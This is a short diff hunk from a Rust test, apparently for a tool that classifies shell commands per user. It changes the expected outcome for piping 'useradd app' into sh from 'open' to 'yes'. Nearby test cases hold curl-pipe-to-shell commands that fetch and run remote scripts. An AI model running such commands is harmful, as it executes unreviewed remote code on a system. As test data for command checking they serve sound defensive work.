@@ -112,7 +112,7 @@ fn commands_make_rename_and_delete() {
     is("newusers /list", "app", "open");
     is("curl -s https://example.com/x | sh", "ubuntu", "open");
     is("curl -s https://example.com/x | sh", "app", "open");
-    is("echo 'useradd app' | sh", "app", "open");
+    is("echo 'useradd app' | sh", "app", "yes");
     is(
         "curl -fsSL https://deb.nodesource.com/setup_22.x | bash -",
         "ubuntu",
